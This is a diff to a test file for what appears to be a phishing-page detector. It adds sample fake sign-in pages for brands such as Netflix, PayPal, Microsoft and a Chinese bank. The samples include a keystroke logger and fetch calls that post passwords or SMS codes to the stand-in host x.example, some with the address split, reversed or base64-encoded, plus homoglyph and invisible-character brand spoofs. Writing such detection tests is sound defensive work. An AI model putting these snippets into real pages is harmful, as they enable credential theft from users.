@@ -56,6 +56,50 @@ const held: Record<string, ReturnType<typeof page>[]> = {
     page('<h1>Claim your airdrop</h1><button>Connect</button>'),
     script('window.ethereum.request({ method: "eth_sendTransaction", params: [] })'),
   ],
+  'no form at all: keys that are listened to': [
+    page('<div class="logo">Instagram</div><p>Password</p><div contenteditable></div>'),
+    script(
+      'addEventListener("keydown", (e) => { keys += e.key; fetch("https://x.example/k", { method: "POST", body: keys }) })',
+    ),
+  ],
+  'an address in pieces': [
+    page(`<h1>Microsoft</h1>${password}`),
+    script(
+      `const to = "ht" + "tps:" + "//x.ex" + "ample"; fetch(to, { method: "POST", body: p.value })`,
+    ),
+  ],
+  'an address in a list': [
+    page(`<h1>Netflix</h1>${password}`),
+    script(`fetch(["https:", "", "x.example"].join("/"), { method: "POST", body: p.value })`),
+  ],
+  'an address in base64': [
+    page(`<h1>Netflix</h1>${password}`),
+    script(`fetch(atob("aHR0cHM6Ly94LmV4YW1wbGUvYw=="), { method: "POST", body: p.value })`),
+  ],
+  'an address backwards': [
+    page(`<h1>Netflix</h1>${password}`),
+    script(`fetch("elpmaxe.x//:sptth".split("").reverse().join(""), { method: "POST" })`),
+  ],
+  'a page in base64': [script(`document.body.innerHTML = decode("PGZvcm0+PGlucHV0Pg==")`)],
+  'a name in pieces': [
+    page(`<h1><b>Pay</b><i>Pal</i></h1><form action="//x.example">${password}</form>`),
+  ],
+  'a name with signs that nobody sees': [
+    page(`<h1>Net&#8203;flix</h1><form action="//x.example">${password}</form>`),
+  ],
+  'a name in wide letters': [page(`<h1>𝐏𝐚𝐲𝐏𝐚𝐥</h1><form action="//x.example">${password}</form>`)],
+  'a digit for a letter': [page('<title>Micr0soft account</title><input>')],
+  'a capital i for an l': [page('<title>PayPaI</title><input>')],
+  'a foreign sign-in in a frame': [
+    page('<title>Outlook</title><p>Sign in</p><iframe src="https://x.example/login"></iframe>'),
+  ],
+  中国移动: [
+    page(`<h1>中国移动 积分兑换 登录</h1><form action="https://x.example">${password}</form>`),
+  ],
+  验证码: [
+    page('<h1>建设银行</h1><label>短信验证码<input></label>'),
+    script('fetch("https://x.example", { method: "POST", body: code.value })'),
+  ],
   'a name in letters that only look so': [page('<title>Рауpal sign in</title><input>')],
 }
 
@@ -122,7 +166,7 @@ test.each(Object.entries(harmless))('not held: %s [PUB-37]', (_name, files) => {
 })
 
 test('no starter is held, in either language [PUB-37]', () => {
-  const folder = resolve(import.meta.dirname, '../../../starters')
+  const folder = resolve(import.meta.dirname, '../../../../starters')
   const ids = readdirSync(folder, { withFileTypes: true })
     .filter((entry) => entry.isDirectory())
     .map(({ name }) => name)
